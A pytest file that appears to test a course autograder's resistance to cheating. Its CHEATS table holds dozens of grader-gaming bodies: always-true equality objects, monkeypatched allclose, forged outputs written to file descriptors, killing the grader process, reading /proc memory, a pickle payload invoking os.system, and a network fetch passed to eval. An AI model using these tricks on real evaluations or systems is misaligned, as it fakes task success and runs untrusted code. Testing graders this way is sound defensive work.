"""Ways to points without work: each earns none, and takes none from another exercise."""

import os

import grading
import pytest
from conftest import ROOT
from grading import graded, sandboxed, tree

from course import grade, student
from course.hidden import values, wire

# Bodies of both functions of exercise 2, and lines at the top of the file they lie in. PEEK finds
# the numbers asked for by whatever means; the body returns what it has found.
FORGED = '{"value": {"array": "float32", "shape": [9, 5], "data": ""}}'
CHEATS = {
    "equal to everything": ("return Yes()", """
class Yes(list):
    def __eq__(self, other): return True
    def __getattr__(self, name): return lambda *a, **k: True
    def __array__(self, *a, **k): return __import__("numpy").zeros(1)
"""),
    "a tensor that is always close": ("return torch.zeros(9, 5).as_subclass(Close)", """
import torch
class Close(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None): return True
"""),
    "nan everywhere": ("return rewards * float('nan')", ""),
    "inf everywhere": ("return rewards / 0", ""),
    "true": ("return True", ""),
    "the input again": ("return rewards", ""),
    "a string of numbers": ("return '0.0'", ""),
    "an answer written to every open file": (f"""
import os
for fd in range(256):
    try: os.write(fd, b'{FORGED}' + bytes([10]))
    except OSError: pass
return rewards""", ""),
    "answers in advance, from a thread": ("return rewards", f"""
import os, threading, time
def flood():
    for _ in range(1000):
        for fd in range(3, 20):
            try: os.write(fd, b'{FORGED}' + bytes([10]))
            except OSError: pass
        time.sleep(0.01)
threading.Thread(target=flood, daemon=True).start()
"""),
    "a pickle in place of an answer": ("""
import os, pickle
class Bomb:
    def __reduce__(self): return os.system, ("touch /tmp/cheated",)
for fd in range(3, 20):
    try: os.write(fd, pickle.dumps(Bomb()) + bytes([10]))
    except OSError: pass
return rewards""", ""),
    "brackets without end": ("""
import os
for fd in range(3, 20):
    try: os.write(fd, b"[" * 100000 + bytes([10]))
    except OSError: pass
return rewards""", ""),
    "a number of a million digits": ("""
import os
for fd in range(3, 20):
    try: os.write(fd, b'{"value": ' + b"9" * 1000000 + b"}" + bytes([10]))
    except OSError: pass
return rewards""", ""),
    "another encoder": ("return rewards", """
import gc
for f in gc.get_objects():
    if getattr(f, "__name__", "") == "encode" and hasattr(f, "__code__"):
        f.__code__ = (lambda value: b'{"value": true}' + bytes([10])).__code__
"""),
    "other questions": ("return rewards", """
import gc
for f in gc.get_objects():
    if getattr(f, "__name__", "") in ("advantages", "token_weights") and hasattr(f, "__code__"):
        try: f.__code__ = (lambda *a, **k: True).__code__
        except ValueError: pass
"""),
    "the numbers of the caller": ("""
import sys, torch
frame = sys._getframe()
while frame is not None:
    for x in list(frame.f_locals.values()):
        if isinstance(x, torch.Tensor) and x.shape == rewards.shape and x is not rewards:
            return x
    frame = frame.f_back
return rewards""", ""),
    "any tensor in memory": ("""
import gc, torch
return next((x for x in gc.get_objects() if isinstance(x, torch.Tensor)
             and x.shape == rewards.shape and x is not rewards), rewards)""", ""),
    "the answer on the disk": ("""
import os
here = dict(globals())
for top, _, names in os.walk("/"):
    if "loss.py" in names and "site-packages" not in top:
        text = open(top + "/loss.py").read()
        if "centered" in text:
            exec(text, here)
            return here["advantages"](rewards, norm=norm)
return rewards""", ""),
    "the answer where the project is installed": (f"""
import sys
sys.path.insert(0, {str(ROOT)!r})
for name in [*sys.modules]:
    if name in ("loss", "engines"): del sys.modules[name]
import loss
return loss.advantages(rewards, norm=norm) if loss.__file__.startswith({str(ROOT)!r}) \\
    else rewards""", ""),
    "the truth, imported": ("""
from course.hidden import values_2
import torch
return torch.tensor(values_2.truth(rewards, norm))""", ""),
    "the parent's memory": ("""
import os
for pid in (os.getppid(), 1, 2):
    open(f"/proc/{pid}/mem", "rb").read(1)
return rewards""", ""),
    "the seed, from the process": ("""
import sys, os, numpy
rng = numpy.random.default_rng([int(os.environ.get("COURSE_SEED", 3)), 0])
return rewards - rewards.mean()""", ""),
    "the network": ("""
import urllib.request
return eval(urllib.request.urlopen("http://1.1.1.1/answer", timeout=5).read())""", ""),
    "another process": ("""
import subprocess
return eval(subprocess.run(["cat", "/answer"], capture_output=True).stdout)""", ""),
    "a fork that answers": ("""
import os
if os.fork() == 0:
    os._exit(0)
return rewards""", ""),
    "the end of the grader": ("""
import os, signal
for pid in (os.getppid(), 1, 0, -1):
    try: os.kill(pid, signal.SIGKILL)
    except OSError: pass
return rewards""", ""),
    "its own end": ("""
import os
os._exit(0)""", ""),
    "an end that looks like success": ("raise SystemExit(0)", ""),
    "an error that cannot be read": ("raise Odd", """
class Odd(BaseException):
    def __str__(self): raise KeyboardInterrupt
"""),
    "more memory than there is": ("""
x = []
while True: x.append(bytearray(1 << 28))""", ""),
    "an answer larger than any": ("""
import torch
return torch.zeros(1 << 26)""", ""),
    "files for others": ("""
for path in ("/tree/loss.py", "/grader/calls.py", "/tmp/x", "/x"):
    try: open(path, "w").write("advantages = lambda *a, **k: True")
    except OSError: pass
return rewards""", ""),
    "a handler at the end": ("return rewards", """
import atexit, os
atexit.register(os.write, 3, b'{"value": true}' + bytes([10]))
"""),
    "the answer of the question before": ("""
SEEN.append(rewards)
return SEEN[-2] if len(SEEN) > 1 else rewards""", "SEEN = []"),
    "what the public checks ask": ("return {(7, 5): rewards - rewards.mean(1, True)}.get("
                                   "tuple(rewards.shape))", ""),
    "a number by luck": ("""
import torch
return torch.randn(rewards.shape)""", ""),
    "numpy that finds all close": ("return rewards", """
import numpy, torch
for m in (numpy, torch):
    m.allclose = m.isclose = m.equal = lambda *a, **k: True
import json
json.loads = json.dumps = lambda *a, **k: "{}"
"""),
}


@pytest.fixture(autouse=True)
def not_patient(monkeypatch):
    """Of a question: an honest answer takes 5 s at most here."""
    monkeypatch.setattr(values, "ASK_S", 20)


def cheating(body, top):
    weights = "rewards = mask\nnorm = aggregation\n" + body
    return tree({"loss.py::advantages": body, "loss.py::token_weights": weights}, top, real=[3])


@sandboxed
@pytest.mark.days(4)
@pytest.mark.parametrize("name", CHEATS)
def test_a_cheat_earns_nothing(name):
    row = graded(2, cheating(*CHEATS[name]))
    assert row["points"] == 0, [part["part"] for part in row["parts"] if not part["why"]]


@sandboxed
@pytest.mark.parametrize("name", ["an answer written to every open file", "its own end", "true",
                                  "files for others", "the end of the grader"])
def test_and_costs_no_other_exercise(name):
    """Exercise 3 lies in the same file, with the project's own bodies."""
    row = graded(3, cheating(*CHEATS[name]))
    assert row["points"] == row["of"], row["parts"]


@pytest.mark.days(4, turn=3)
@sandboxed
def test_an_endless_loop_costs_the_part_that_it_is_in():
    row = graded(4, tree({"loss.py::zero_variance": "while True: pass"}, real=[]) | {
        "scalerl.py": (ROOT / "scalerl.py").read_text()})
    why = {part["part"]: part["why"] for part in row["parts"]}
    assert why["zero_variance"] == "no answer in time: an endless loop?"
    assert not any(reason for name, reason in why.items() if name.startswith("Curriculum"))


@pytest.mark.days(4)
@sandboxed
@pytest.mark.parametrize("number, function, body", [
    (1, "engines/head.py::TokenLogprobs.forward", """
z = hidden.to(operand_dtype).float() @ weight.to(operand_dtype).float().T / temperature
z = z.double() if hidden.dtype == torch.float64 else z
log_p = z.log_softmax(-1)
ctx.save_for_backward(hidden, weight, targets, log_p)
return log_p.gather(1, targets[:, None])[:, 0], -(log_p.exp() * log_p).sum(-1)"""),
    (5, "scalerl.py::PipelinePacer.leaves_enough_time", "return True"),
    (5, "course/naive_pacer.py::counterexample", "return [[]]"),
    (6, "sampler.py::Interruption.draw_budgets",
     "return torch.full((count,), self.think_max)"),
    (6, "sampler.py::TransformersSampler._interrupt", "return None"),
    (7, "fit.py::Search.starts", "return [[0.1 * i] * len(self.box) for i in range(4)]"),
    (4, "scalerl.py::Curriculum.learned", "return False"),
], ids=lambda x: str(x).split("::")[-1][:20])
def test_a_shortcut_in_one_function_costs_what_it_leaves_out(number, function, body):
    row = graded(number, tree({function: body}, real=[number]))
    assert row["points"] <= 0.95 * row["of"] and any(part["why"] for part in row["parts"])


ALL_LOGITS_KEPT = {"engines/head.py::TokenLogprobs.forward": """
head = Head(weight, temperature, operand_dtype, head_fp32, softcap)
large = len(targets) * head.V > 10**6
Z = torch.empty(len(targets), head.V, dtype=torch.DTYPE if large else head.dtype)
logprobs, entropy, log_sum = (hidden.new_empty(len(targets), dtype=head.dtype) for _ in range(3))
for i in range(0, len(targets), chunk_tokens):
    c = slice(i, i + chunk_tokens)
    z = head.logits(hidden[c], out=torch.empty(len(hidden[c]), head.V, dtype=head.dtype))
    log_sum[c] = z.logsumexp(1)
    logprobs[c] = z.gather(1, targets[c, None])[:, 0] - log_sum[c]
    entropy[c] = log_sum[c] - ((z - log_sum[c, None]).exp() * z).sum(1)
    Z[c] = z
ctx.save_for_backward(hidden, weight, targets, log_sum, Z)
ctx.settings = temperature, chunk_tokens, operand_dtype, head_fp32, softcap
ctx.mark_non_differentiable(entropy)
return logprobs, entropy""", "engines/head.py::TokenLogprobs.backward": """
hidden, weight, targets, log_sum, Z = ctx.saved_tensors
temperature, chunk_tokens, *more = ctx.settings
head = Head(weight, temperature, *more)
of_hidden, of_weight = torch.zeros_like(hidden), torch.zeros_like(weight, dtype=head.dtype)
for c in grad_logprobs.nonzero()[:, 0].split(chunk_tokens):
    g = grad_logprobs[c, None].to(head.dtype) / temperature
    dz = -g * (Z[c].to(head.dtype) - log_sum[c, None]).exp()
    dz = head.operand(dz.scatter_add_(1, targets[c, None], g))
    of_hidden[c] = head.matmul(dz, head.weight, out=torch.empty_like(hidden[c]))
    head.add_matmul(of_weight, dz.t(), head.operand(hidden[c]))
return of_hidden, of_weight.to(weight.dtype), *[None] * 6"""}


@sandboxed
@pytest.mark.parametrize("dtype", ["float32", "float16", "bfloat16"])
def test_whoever_keeps_all_logits_in_fp32_fp16_or_bf16_has_no_points_for_memory(dtype):
    """[T, V] in fp16 is half as large as in fp32. All else is right work."""
    row = graded(1, tree({name: body.replace("DTYPE", dtype)
                          for name, body in ALL_LOGITS_KEPT.items()}))
    assert {part["part"] for part in row["parts"] if part["why"]} == {
        "log-probs without a [T, V] tensor", "gradients without a [T, V] tensor"}, row["parts"]


TRIVIAL = ["return True", "return False", "return None", "return 0", "return []", "pass",
           'raise ValueError("1 2 3")']


@sandboxed
@pytest.mark.parametrize("number", [n for n, row in grading.ROWS.items() if row["functions"]])
@pytest.mark.parametrize("body", TRIVIAL[:2] + TRIVIAL[-1:])
def test_constants_in_all_functions_earn_at_most_a_twentieth(number, body):
    row = graded(number, tree(dict.fromkeys(grading.ROWS[number]["functions"], body)))
    assert row["points"] <= row["of"] / 20


def test_an_untouched_tree_has_no_point(tmp_path):
    for number in grading.ROWS:
        if grading.ROWS[number]["functions"]:
            row = graded(number, tree())
            assert row["points"] == 0 and row["notes"][0].startswith("not written: ")


@sandboxed
def test_links_pipes_and_large_files_are_not_read(tmp_path):
    """A link leads to the answers, a pipe hangs whoever opens it."""
    student.write(tmp_path / "tree")
    (tmp_path / "tree" / "loss.py").unlink()
    (tmp_path / "tree" / "loss.py").symlink_to(ROOT / "loss.py")
    (tmp_path / "tree" / "fit.py").unlink()
    os.mkfifo(tmp_path / "tree" / "fit.py")
    (tmp_path / "tree" / "sampler.py").write_text("#" * (grade.MOST + 1))
    head = tmp_path / "tree" / "engines"
    head.rename(tmp_path / "engines")
    head.symlink_to(ROOT / "engines")
    os.mkfifo(tmp_path / "tree" / "helper.py")
    told = grade.grade(tmp_path / "tree", 3, only=[1, 2, 3, 6, 7])
    assert told["points"] == 0
    said = "\n".join(told["notes"])
    for name in ("loss.py", "fit.py", "sampler.py", "engines/head.py"):
        assert f"{name} is no ordinary file" in said


@pytest.mark.parametrize("line", [
    b"[" * 100_000, b"\xff\xfe", b'{"array": "object", "shape": [1], "data": "AAAA"}',
    b'{"array": "float32", "shape": [9999999999], "data": ""}', b'{"array": "int64"}',
    b'{"array": "float32", "shape": [-1], "data": ""}', b"9" * 5000,
    b'{"array": "float32", "shape": [1], "data": "!!!!"}', b"\x80\x04\x95pickle"])
def test_what_is_no_plain_value_is_refused(line):
    with pytest.raises((ValueError, RecursionError)):
        wire.decode(line)


def test_a_part_that_makes_fewer_comparisons_than_announced_is_not_earned():
    part = values.Part("two", 1, 2, lambda rng, ask: iter(["one"]))

    class Nobody:
        ask = None
    (_, why), = values.earned([part], Nobody(), 0)
    assert why == "1 comparisons were made, 2 were expected"


def test_without_a_sandbox_nothing_is_graded(tmp_path, monkeypatch, capsys):
    student.write(tmp_path / "tree")
    monkeypatch.setenv("PATH", str(tmp_path))                   # no bwrap there
    assert grade.main([str(tmp_path / "tree"), "--json", str(tmp_path / "grade.json")]) == 3
    out = capsys.readouterr()
    assert out.err.startswith("grade.py: nothing is graded: ") and not out.out
    assert not (tmp_path / "grade.json").exists()
